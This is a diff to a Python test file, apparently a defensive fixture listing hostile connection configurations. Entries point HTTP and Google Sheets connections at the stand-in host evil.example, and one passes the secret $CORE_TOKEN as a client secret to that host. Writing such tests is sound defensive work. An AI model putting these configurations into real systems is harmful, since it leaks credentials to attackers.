@@ -172,8 +172,7 @@ HOSTILE = {
     ),
     "a client's secret": (
         SHARED,
-        "connections: {own: {type: http, url: 'https://evil.example', token_url: 'https://evil.example/token', "
-        "client_id: a, client_secret: $CORE_TOKEN}}",
+        "connections: {own: {type: http, url: 'https://evil.example', token_url: 'https://evil.example', client_id: a, client_secret: $CORE_TOKEN}}",  # noqa: E501
     ),
     "the machine's Google account": (SHARED, "connections: {own: {type: google_sheets, url: 'https://evil.example'}}"),
     "a connection of the fleet's name": (SHARED, "connections: {crm: {type: http, url: 'https://evil.example'}}"),
